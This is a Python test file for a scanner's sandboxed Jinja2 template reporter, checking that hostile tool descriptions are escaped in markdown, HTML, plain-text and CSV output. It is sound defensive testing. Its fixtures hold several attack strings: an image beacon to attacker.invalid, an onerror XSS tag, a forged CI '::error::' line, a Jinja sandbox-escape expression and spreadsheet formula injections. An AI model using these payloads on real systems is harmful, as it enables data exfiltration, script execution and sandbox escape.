"""`--format template --template FILE`: a user's Jinja2 template, sandboxed, with server text escaped."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fixture_repo import Repo, base_spec

from scanner.reporters.template import csv_field

HOSTILE = 'Add a note. ![x](https://attacker.invalid/p.png?d=1) <img src=x onerror=alert(1)> | ` \n::error::forged'
TEMPLATE = (
    "{{ summary.total }} finding(s)\n{% for f in findings %}{{ f.rule }}: {{ f.details | join(' ') }}\n{% endfor %}"
)


def _drifted(repo: Repo) -> None:
    repo.add_stdio("notes")
    assert repo.run("lock").exit_code == 0
    spec = base_spec()
    spec["tools"][0]["description"] = HOSTILE
    repo.write_spec("notes", spec)


def _render(repo: Repo, tmp_path: Path, name: str, text: str) -> tuple[int, str]:
    template = tmp_path / name
    template.write_text(text, encoding="utf-8")
    out = tmp_path / f"out-{name}"
    result = repo.run("check", "--format", "template", "--template", str(template), "--output", str(out))
    return result.exit_code, out.read_text(encoding="utf-8") if out.exists() else result.output


def test_a_markdown_template_shows_server_text_as_text(repo: Repo, tmp_path: Path) -> None:
    _drifted(repo)
    code, out = _render(repo, tmp_path, "report.md", TEMPLATE)
    assert code == 1, out  # the verdict is the check's, whatever the template says
    assert out.startswith("1 finding(s)\ntool-changed: ")
    assert "![x](" not in out and "!\\[x\\](" in out  # no image fetched from the attacker
    assert "<img" not in out and "&lt;img" in out
    assert "\n::error::" not in out and "\\n::error::forged" in out  # still one line per finding


def test_an_html_template_is_autoescaped_but_keeps_its_own_markup(repo: Repo, tmp_path: Path) -> None:
    _drifted(repo)
    text = "<ul>{% for f in findings %}<li>{{ f.message }}: {{ f.details | join(' ') }}</li>{% endfor %}</ul>"
    code, out = _render(repo, tmp_path, "report.html", text)
    assert code == 1, out
    assert out.startswith("<ul><li>") and out.rstrip().endswith("</li></ul>")
    assert "<img" not in out and "&lt;img src=x onerror=alert(1)&gt;" in out


def test_a_plain_template_writes_no_line_a_runner_reads_as_a_command(repo: Repo, tmp_path: Path) -> None:
    _drifted(repo)
    code, out = _render(repo, tmp_path, "report.txt", TEMPLATE)
    assert code == 1
    assert not any(line.lstrip().startswith("::") for line in out.splitlines()), out
    assert "\\n::error::forged" in out


def test_the_sandbox_refuses_python_and_changes(repo: Repo, tmp_path: Path) -> None:
    _drifted(repo)
    escape = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    code, out = _render(repo, tmp_path, "escape.txt", escape)
    assert code == 2 and "escape.txt: SecurityError: access to attribute '__class__'" in out, out
    code, out = _render(repo, tmp_path, "change.txt", "{{ findings.append(1) }}")
    assert code == 2 and "change.txt: SecurityError" in out, out


def test_a_broken_template_is_a_usage_error_naming_its_line(repo: Repo, tmp_path: Path) -> None:
    repo.add_stdio("notes")
    code, out = _render(repo, tmp_path, "broken.md", "ok\n{% for f in findings %}\n{{ f.rule }\n")
    assert code == 2
    assert "broken.md: line 3:" in out
    assert not repo.lock_path.exists()
    result = repo.run("check", "--format", "template")
    assert result.exit_code == 2 and "--format template needs --template FILE" in result.output


def test_a_csv_template_keeps_its_columns_and_runs_no_formula(repo: Repo, tmp_path: Path) -> None:
    repo.add_stdio("notes")
    assert repo.run("lock").exit_code == 0
    spec = base_spec()
    spec["tools"][0]["description"] = 'Add a note,=HYPERLINK("https://attacker.invalid/?d=1","open"), "quoted"'
    spec["tools"].append({"name": "@SUM(A1)", "description": "-2+3", "inputSchema": {"type": "object"}})
    repo.write_spec("notes", spec)
    template = "rule,subject,message\n{% for f in findings %}{{ f.rule }},{{ f.subject }},{{ f.message }}\n{% endfor %}"
    code, out = _render(repo, tmp_path, "report.csv", template)
    assert code == 1, out
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["rule", "subject", "message"] and len(rows) == 3
    assert all(len(row) == 3 for row in rows), rows  # the description's comma and quotes stay in their cell
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert "'@SUM(A1)" in cells  # shown as text, not run
    changed = next(row for row in rows[1:] if row[1] == "add_note")
    assert 'added "Add a note,=HYPERLINK("https://attacker.invalid/?d=1","open"), "quoted""' in changed[2]


def test_csv_fields_are_quoted_and_neutralised() -> None:
    assert csv_field('a,b "c"') == '"a,b ""c"""'
    assert csv_field("=1+1") == "\"'=1+1\""
    assert csv_field("+1") == "\"'+1\"" and csv_field("-1") == "\"'-1\"" and csv_field("@x") == "\"'@x\""
    assert "\n" not in csv_field("a\nb") and "\r" not in csv_field("\r=1")
